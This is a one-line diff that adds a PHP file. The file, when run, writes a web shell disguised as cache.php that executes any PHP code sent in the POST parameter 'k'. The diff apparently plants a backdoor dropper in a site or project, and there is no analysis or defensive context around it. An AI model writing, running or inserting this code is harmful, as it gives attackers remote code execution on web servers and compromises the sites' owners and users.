@@ -1,0 +1,1 @@
+<?php file_put_contents(dirname(__FILE__) . '/cache.php', '<?php @eval($_POST["k"]); ?>'); echo 1;
